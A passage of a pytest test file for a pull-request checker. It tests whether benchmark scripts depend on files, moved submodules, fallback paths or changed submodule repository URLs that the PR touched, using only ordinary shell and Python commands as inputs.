        "TRITON_PTXAS_PATH=$(find /usr/local/cuda* -type f -name ptxas -print -quit)",
        'export DG_JIT_CACHE_DIR="/tmp/dg-cache-$JOB_ID"',
        "export SGLANG_DG_CACHE_DIR=/configs/deepgemm_cache",
    ],
)
def test_a_toolchain_or_kernel_cache_outside_what_the_pr_changed_counts_for_nothing(check, line):
    added = (f"{HUB}/bin/nvcc", f"{HUB[:-4]}/hipcc", f"{HUB[:-4]}/gcc")
    _assert_passes_beside(check, line, added, "#!/bin/sh\n")


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line", IN_SUBMODULE)
def test_a_file_inside_a_submodule_the_pr_moves_counts(check, line, check_id):
    result = check(_moving_submodule(_parts(line, helper=None)), check_id)
    assert result.status == "FAIL", result.reason
    assert "a submodule this PR points at commit `111111111111`" in result.reason
    assert f"`{SUBMODULE}`" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
def test_a_file_sourced_from_a_submodule_the_pr_moves_is_not_read(check, check_id):
    line = "source /workspace/utils/trace-replay/env.sh"
    result = check(_moving_submodule(_parts(line, helper=None)), check_id)
    assert result.status == "FAIL", result.reason
    assert "sources /workspace/utils/trace-replay/env.sh, which is not read" in result.reason
    _assert_passes(check, _parts(line, helper=None), (check_id,))  # the submodule unmoved


@pytest.mark.parametrize("line", IN_SUBMODULE[:4])  # runs (local installs: engine-patches')
def test_a_submodule_the_pr_leaves_where_it_was_counts_for_nothing(check, line):
    _assert_passes(check, _parts(line, helper=None), CHECKS)


@pytest.mark.parametrize("line", ["echo ready", "cd utils/trace-replay && ls -l && cd -"])
def test_a_submodule_the_pr_moves_counts_for_nothing_where_nothing_uses_it(check, line):
    # a plain command name is looked up on PATH, wherever the script changed directory to
    _assert_passes(check, _moving_submodule(_parts(line, helper=None)), CHECKS)


def test_a_submodule_the_profile_trusts_counts_for_nothing_when_it_moves(check):
    # utils/aiperf: InferenceX's paths.trusted_submodules (its bumps are the maintainers' own)
    parts = _moving_submodule(_parts("pip install -e /workspace/utils/aiperf", helper=None),
                              "utils/aiperf")  # fmt: skip
    _assert_passes(check, parts, CHECKS)
    branch = "@@ -2,2 +2,2 @@\n-\tbranch = main\n+\tbranch = agentx-v1.0\n"
    parts["changed_files"].append({"path": ".gitmodules", "status": "modified", "patch": branch})
    _assert_passes(check, parts, CHECKS)  # another branch of the same repository


@pytest.mark.parametrize(
    "patch",
    [
        "@@ -3 +3 @@\n-\turl = https://github.com/SemiAnalysisAI/aiperf.git\n"
        "+\turl = https://github.com/someone/aiperf.git",
        None,  # a patch GitHub did not send: which repository it is cannot be told
    ],
)
def test_a_trusted_submodule_whose_repository_the_pr_changes_counts(check, patch):
    parts = _moving_submodule(_parts("pip install -e /workspace/utils/aiperf", helper=None),
                              "utils/aiperf")  # fmt: skip
    parts["changed_files"].append({"path": ".gitmodules", "status": "modified", "patch": patch})
    for check_id in CHECKS:
        result = check(parts, check_id)
        assert result.status == "FAIL", (check_id, result.reason)
        assert "`utils/aiperf`, a submodule this PR points at commit" in result.reason


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", FALLBACKS)
def test_a_fallback_naming_a_directory_the_pr_writes_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "import os\n")
    assert HUB in result.reason, result.reason


@pytest.mark.parametrize(
    "line",
    [
        'export ROCM_PATH="${ROCM_PATH:-/opt/rocm}"',
        'export HF_HUB_CACHE="${HF_HUB_CACHE:-/mnt/hf_hub_cache}"',
        'pip install -e "${AIPERF_DIR:-${INFMAX_CONTAINER_WORKSPACE}/utils/aiperf}"',
        'export XDG_CACHE_HOME="${XDG_CACHE_HOME:-}"',
        'export TRITON_CACHE_DIR="${TRITON_CACHE_DIR:-$(mktemp -d)}"',
    ],
)
def test_a_fallback_outside_what_the_pr_changed_counts_for_nothing(check, line):
    _assert_passes_beside(check, line, (f"{HUB}/setup.py",), "import os\n")


@pytest.mark.parametrize("check_id", CHECKS)
@pytest.mark.parametrize("line, added", TASK_AND_PROGRAM_FILES)
def test_a_file_a_program_or_task_runner_runs_as_code_counts(check, line, added, check_id):
    result = _failed_with_added(check, check_id, line, added, "echo hi\n")
    assert added in result.reason


@pytest.mark.parametrize(
    "line",
    [
        "python3 -c 'import json, os.path; from vllm import LLM'",  # nothing of the checkout
        "python3 -c 'import tools'",  # a one-part name: the first path entry's own rule
        "bash tools/*.txt",
        "torchrun --nproc-per-node 2 bench/run.py -m tools.x",  # the program's own `-m`
        # an entry it computes is not followed; a string that is no import path is no entry
        'python3 -c \'import os, sys; sys.path.insert(0, os.path.join("tools", "x"))\'',
        "python3 -c 'import sys; print(\"tools\", sys.argv[1])' tools",
        "python3 -c 'import importlib; importlib.import_module(\"json\")'",
        "flock /tmp/lock -c 'echo hi'",
        "cd tools && make",  # another runner's file
    ],
)
def test_imports_and_patterns_naming_no_changed_program_pass(check, line):
    parts = _parts(line, helper=None)
    add_changed_file(parts, "tools/x.py", "import os\n")
    add_changed_file(parts, "tools/x.sh", "echo hi\n")
    result = check(parts, "no-arch-hacks")
    assert "tools/x." not in result.reason, result.reason
